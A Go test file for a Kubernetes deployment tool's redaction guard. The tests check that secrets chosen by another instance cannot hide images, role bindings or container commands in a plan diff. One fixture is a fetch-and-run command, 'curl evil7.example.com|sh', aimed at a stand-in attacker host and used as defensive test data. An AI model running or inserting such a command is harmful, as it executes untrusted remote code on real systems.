package maskguard

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"hawser.dev/hawser/internal/diag"
	"hawser.dev/hawser/internal/object"
	"hawser.dev/hawser/internal/plan"
	"hawser.dev/hawser/internal/redact"
)

// Whoever writes a Secret that one instance takes chooses it so that it equals what another instance runs and who gets rights there:
// all of that is shown, in fields and in whole content; what is hidden elsewhere is told with its place.
func TestOthersSecretsHideNothingThatMatters(t *testing.T) {
	const image, eve, all, command = "registry.example.com/pay7x1:2.1.0", "eve-9f8xkq@evil.example.com", "tenant-adm1n-all", "curl evil7.example.com|sh"
	m := &redact.Redactor{}
	for _, secret := range []string{image, eve, all, command, image + "\n" + eve + "\n" + all} {
		m.AddFor("note", secret)
	}
	deployment := object.Object{Instance: "pay", Body: map[string]any{"apiVersion": "apps/v1", "kind": "Deployment", "metadata": map[string]any{"name": "d", "namespace": "x"},
		"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "a", "image": image, "command": []any{"sh", command}}}}}}}}
	binding := object.Object{Instance: "pay", Body: map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": map[string]any{"name": "b"},
		"roleRef": map[string]any{"kind": "ClusterRole", "name": all}, "subjects": []any{map[string]any{"kind": "User", "name": eve}}}}
	p := plan.Plan{}
	bodies := map[object.Ref]object.Object{}
	for _, o := range []object.Object{deployment, binding} {
		marked := o.MarkSecrets(func(text string) string { return m.Value("pay", text) }, func(text string) string { return m.Own("pay", text) }, func(key string) bool { return m.Redact(key) != key })
		before := object.Object{Body: map[string]any{"apiVersion": o.Body["apiVersion"], "kind": o.Body["kind"], "metadata": o.Body["metadata"],
			"spec":    map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "a", "image": "old", "command": []any{"sh", "old"}}}}}},
			"roleRef": map[string]any{"kind": "ClusterRole", "name": "view"}, "subjects": []any{map[string]any{"kind": "User", "name": "ops@example.com"}}}}
		p.Changes = append(p.Changes, plan.Change{Ref: o.Ref(), Action: plan.Update, Instance: "pay", Content: marked.Masked(m.Redact, object.AsNamed, object.AsNamed, object.AsNamed),
			Fields: plan.FieldChanges(marked, before.Body, o.Body, m.Redact, object.Setters{})})
		bodies[o.Ref()] = marked
	}
	found := Hidden(&p, bodies, none, m)
	Show(&p, m)
	plan.Redact(&p, m)
	shown := fmt.Sprint(p.Changes[0].Fields, p.Changes[1].Fields)
	whole := fmt.Sprint(p.Changes[0].Content, p.Changes[1].Content)
	for _, text := range []string{image, eve, all} {
		if !strings.Contains(shown, text) || !strings.Contains(whole, text) {
			t.Errorf("%s is hidden in\n%s\nor\n%s", text, shown, whole)
		}
	}
	last, err := json.MarshalIndent(p.Changes, "", "  ") // what is printed is masked once more as a whole
	lines := strings.Join([]string{"subjects[" + eve + "]", "  image:   " + image, `new: {"kind":"User","name":"` + eve + `"}`}, "\n")
	for in, text := range map[string]string{string(last): image, string(last) + " ": eve, string(last) + "  ": all, lines: eve, lines + "\n": image} {
		if got := m.Sweep(in); !strings.Contains(got, text) || strings.Contains(got, command) && !strings.Contains(in, command) || err != nil {
			t.Errorf("%s is hidden in %s", text, got)
		}
	}
	if got := m.Sweep("refused: " + command); strings.Contains(got, command) {
		t.Errorf("an unmistakable secret is shown: %s", got)
	}
	if strings.Contains(shown+whole, command) {
		t.Errorf("an unmistakable secret is shown where one may stand:\n%s\n%s", shown, whole)
	}
	if len(found) != 1 || found[0].Code != "hidden-by-others" || found[0].Instance != "pay" || !strings.Contains(found[0].Why, "Deployment x/d spec.template.spec.containers[name=\"a\"].command[1]") {
		t.Errorf("it is told as %v", found)
	}
	if found := Hidden(&p, bodies, none, redact.New()); found != nil {
		t.Errorf("nothing is secret, and told is %v", found)
	}
	mine := &redact.Redactor{}
	mine.AddFor("pay", command)
	if found := Hidden(&p, bodies, none, mine); found != nil {
		t.Errorf("it takes the secret itself, and told is %v", found)
	}
}

// TestShown: of a plan's fields those are shown that are never secret, as they are declared and as they are live.
func TestShown(t *testing.T) {
	note := object.Ref{Group: "rbac.authorization.k8s.io", Kind: "RoleBinding", Name: "note"}
	web := object.Ref{Group: "argoproj.io", Kind: "Rollout", Name: "web"}
	p := &plan.Plan{Changes: []plan.Change{{Ref: web, Instance: "web", Fields: []plan.FieldChange{{Path: "spec.template.spec.containers[web].image", Old: `"a:1"`, New: `"a:2"`},
		{Path: "spec.template.spec.containers[web].env[PW].value", Old: `"x"`, New: `"y"`}}},
		{Ref: note, Instance: "web", Fields: []plan.FieldChange{{Path: "subjects[eve]", New: `{"kind":"User","name":"eve"}`}}}}}
	var got shower
	Show(p, &got)
	slices.Sort(got.shown)
	if !slices.Equal(got.left, []string{`"a:2"`, `{"kind":"User","name":"eve"}`, ""}) || !slices.Equal(got.shown, []string{" User", " eve", " subjects[eve]", "web RoleBinding note", "web RoleBinding/note", "web Rollout web", "web Rollout/web", "web a:1", "web a:2", "web note", "web spec.template.spec.containers[web].image", "web web"}) {
		t.Errorf("%q", got)
	}
}

// TestKeptImage: what a kept release says is secret in an image is hidden, in what the cluster says of it and as what it was, and hides nothing
// of what an image is to be.
func TestKeptImage(t *testing.T) {
	const was, token = "registry.example.com/web:t0ken-9x7q", "t0ken-9x7q"
	kept := object.Object{Instance: "web", Sensitive: []string{`spec.containers[name="a"].image`}, Body: map[string]any{"apiVersion": "v1", "kind": "Pod",
		"metadata": map[string]any{"name": "web"}, "spec": map[string]any{"containers": []any{map[string]any{"name": "a", "image": was}}}}}.Claimed()
	by := func() *redact.Redactor {
		r := redact.New()
		Declared(kept, r)
		r.AddKept(map[string][]string{"web": kept.SensitiveValues()})
		return r
	}
	for _, said := range []string{`Back-off pulling image "` + was + `": ErrImagePull`, "manifest for " + token + " not found"} {
		if got := by().Said("web", said); strings.Contains(got, token) {
			t.Errorf("%s", got)
		}
	}
	kept.Sensitive = append(kept.Sensitive, "spec.containers.0.image", "spec.containers.0.env")
	for rendered, want := range map[bool]int{true: 1, false: 3} {
		base := Base(map[object.Ref]object.Object{kept.Ref(): kept}, rendered)
		if got := base[kept.Ref()].Sensitive; len(got) != want || got[want-1] != "spec.containers.0.env" || len(kept.Sensitive) != 3 {
			t.Errorf("%t: %q", rendered, got)
		}
	}
	to := func(old, image string) plan.FieldChange {
		r, p := by(), &plan.Plan{Changes: []plan.Change{{Action: plan.Update, Ref: kept.Ref(), Instance: "web", Fields: []plan.FieldChange{{Path: "spec.containers[a].image", Old: `"` + old + `"`, New: `"` + image + `"`}}}}}
		Show(p, r)
		plan.Redact(p, r)
		return p.Changes[0].Fields[0]
	}
	if f := to(was, "registry.example.com/web:2"); strings.Contains(f.Old, token) || f.New != `"registry.example.com/web:2"` {
		t.Errorf("%+v", f)
	}
	if f := to("registry.example.com/web:2", was); f.New != `"`+was+`"` {
		t.Errorf("the image that is to run is hidden: %+v", f)
	}
}

type shower struct{ left, shown []string }

func (s *shower) Leave(texts ...string) { s.left = append(s.left, texts...) }
func (s *shower) Show(instance string, texts ...string) {
	for _, text := range texts {
		s.shown = append(s.shown, instance+" "+text)
	}
}

// TestHiddenKeys: a key that equals a secret of another instance is hidden, and told with its place; one that is the instance's own is
// not told.
func TestHiddenKeys(t *testing.T) {
	m := &redact.Redactor{}
	m.AddFor("note", "site-8Zx91w.conf")
	m.AddFor("note", "key.example.com/Zx81-k9")
	m.AddFor("pay", "own-7Yt62q.conf")
	config := object.Object{Instance: "pay", Body: map[string]any{"apiVersion": "v1", "kind": "ConfigMap",
		"metadata": map[string]any{"name": "c", "namespace": "x", "annotations": map[string]any{"key.example.com/Zx81-k9": "a"}},
		"data":     map[string]any{"site-8Zx91w.conf": "allow all", "own-7Yt62q.conf": "b", "open": "c"}}}
	p := plan.Plan{Changes: []plan.Change{{Ref: config.Ref(), Action: plan.Create, Instance: "pay"}}}
	found := Hidden(&p, map[object.Ref]object.Object{config.Ref(): config}, none, m)
	if len(found) != 1 || found[0].Code != "hidden-by-others" || places(found[0]) != 2 {
		t.Fatalf("found %+v", found)
	}
	text := found.Err()
	if got := fmt.Sprintf("%+v", found[0]); text != nil || strings.Contains(got, "8Zx91w") || strings.Contains(got, "Zx81") || !strings.Contains(got, "metadata.annotations") || !strings.Contains(got, "data.") {
		t.Errorf("%v %s", text, got)
	}
	delete(config.Body, "data")
	delete(config.Body["metadata"].(map[string]any), "annotations")
	p.Changes[0].Action, p.Changes[0].Fields = plan.Update, []plan.FieldChange{{Path: `data."site-8Zx91w.conf"`, Old: `"allow"`},
		{Path: `metadata.annotations."key.example.com/Zx81-k9"`, Old: `"a"`}, {Path: `data."own-7Yt62q.conf"`, Old: `"b"`}, {Path: "data.open", Old: `"c"`}}
	if found = Hidden(&p, map[object.Ref]object.Object{config.Ref(): config}, none, m); len(found) != 1 || places(found[0]) != 2 || strings.Contains(found[0].Why, "Zx") {
		t.Errorf("of what goes: %+v", found)
	}
}

// A word that an instance takes as a secret hides an image and a label of its own that hold it: the plan says so and where, once for all places,
// and not of what stays as it is, of others' or of what gives rights.
func TestHiddenByOwn(t *testing.T) {
	m := &redact.Redactor{}
	m.AddFor("pay", "acme")
	m.AddFor("web", "other-word-71")
	pods := map[string]any{"containers": []any{map[string]any{"name": "a", "image": "registry.example.com/acme/api:1", "env": []any{map[string]any{"name": "USER", "value": "acme"}}}}}
	workload := func(kind, name string) object.Object {
		return object.Object{Instance: "pay", Body: map[string]any{"apiVersion": "apps/v1", "kind": kind, "metadata": map[string]any{"name": name, "namespace": "x", "labels": map[string]any{"app": "acme"}},
			"spec": map[string]any{"template": map[string]any{"spec": pods}}}}
	}
	role := object.Object{Instance: "pay", Body: map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": map[string]any{"name": "r", "namespace": "x"},
		"rules": []any{map[string]any{"resourceNames": []any{"acme"}}}}}
	p, bodies := &plan.Plan{}, map[object.Ref]object.Object{}
	for action, o := range map[plan.Action]object.Object{plan.Create: workload("Deployment", "d"), plan.Unchanged: workload("StatefulSet", "s"), plan.Update: role} {
		p.Changes = append(p.Changes, plan.Change{Ref: o.Ref(), Action: action, Instance: "pay"})
		bodies[o.Ref()] = o
	}
	found := Hidden(p, bodies, none, m)
	if len(found) != 1 || found[0].Code != "hidden-by-own" || found[0].Instance != "pay" || places(found[0]) != 2 || strings.Contains(fmt.Sprint(found), "acme") {
		t.Fatalf("%+v", found)
	}
	for _, place := range []string{"Deployment x/d metadata.labels.app", "Deployment x/d spec.template.spec.containers[name=\"a\"].image"} {
		if !strings.Contains(found[0].Why, place) {
			t.Errorf("%s is not in %s", place, found[0].Why)
		}
	}
	p.Changes = slices.DeleteFunc(p.Changes, func(ch plan.Change) bool { return ch.Ref.Kind == "Deployment" })
	if found := Hidden(p, bodies, none, m); len(found) > 0 {
		t.Errorf("%+v", found)
	}
}

// TestKeysHold: what managed fields have of an object are keys of maps, items of lists, and what an item of a list is known by.
func TestKeysHold(t *testing.T) {
	for place, body := range map[string]map[string]any{
		"a key":          {"data": map[string]any{"pin-4711": "x"}},
		"an item":        {"spec": map[string]any{"hosts": []any{"a", "pin-4711"}}},
		"a number":       {"spec": map[string]any{"ports": []any{int64(4711)}}},
		"an item's name": {"spec": map[string]any{"list": []any{map[string]any{"name": "pin-4711"}}}},
		"":               {"data": map[string]any{"pin": "pin-4711"}, "spec": map[string]any{"list": []any{map[string]any{"sub": map[string]any{"value": "pin-4711"}}}}},
	} {
		secret := func(text string) bool { return text == "pin-4711" || text == "4711" }
		if got := KeysHold(body, secret); got != (place != "") {
			t.Errorf("%q: %t", place, got)
		}
	}
}

// Whoever chooses a secret so that it equals much that is harmless does not hide with that what a container is told to do: places are named by what
// they mean, and how many are not named is said.
func TestHiddenNamesWhatMattersFirst(t *testing.T) {
	const word = "Zx81-k9wq"
	m := &redact.Redactor{}
	m.AddFor("note", word)
	made := func(api, kind, name string, body map[string]any) object.Object {
		body["apiVersion"], body["kind"], body["metadata"] = api, kind, map[string]any{"name": name, "namespace": "x"}
		return object.Object{Instance: "pay", Body: body}
	}
	data := map[string]any{"command": word}
	for i := range 9 {
		data[fmt.Sprint("a", i)] = word
	}
	p, bodies := &plan.Plan{}, map[object.Ref]object.Object{}
	for _, o := range []object.Object{
		made("v1", "ConfigMap", "a", map[string]any{"data": data}),
		made("networking.k8s.io/v1", "Ingress", "b", map[string]any{"spec": map[string]any{"rules": []any{map[string]any{"host": word}}}}),
		made("example.com/v1", "Grant", "c", map[string]any{"spec": map[string]any{"roleRef": map[string]any{"label": word}}}),
		made("example.com/v1", "Build", "d", map[string]any{"spec": map[string]any{"image": map[string]any{"tag": word}}}),
		made("apps/v1", "Deployment", "z", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "a", "args": []any{word}}}}}}}),
	} {
		p.Changes = append(p.Changes, plan.Change{Ref: o.Ref(), Action: plan.Create, Instance: "pay"})
		bodies[o.Ref()] = o
	}
	found := Hidden(p, bodies, none, m)
	if len(found) != 1 || !strings.HasSuffix(found[0].Why, " and 4 more") || strings.Contains(found[0].Why, word) {
		t.Fatalf("%+v", found)
	}
	at := -1
	for _, place := range []string{"Deployment x/z", "Build x/d", "Ingress x/b", "Grant x/c", "ConfigMap x/a"} {
		i := strings.Index(found[0].Why, place)
		if i <= at {
			t.Errorf("%s is not behind what matters more: %s", place, found[0].Why)
		}
		at = i
	}
	if strings.Contains(found[0].Why, "data.command, Build") {
		t.Errorf("a key of data counts as a command: %s", found[0].Why)
	}
}

// places is how many places a warning names.
func places(f diag.Finding) int {
	_, list, _ := strings.Cut(f.Why, ": ")
	return len(strings.Split(list, ", "))
}
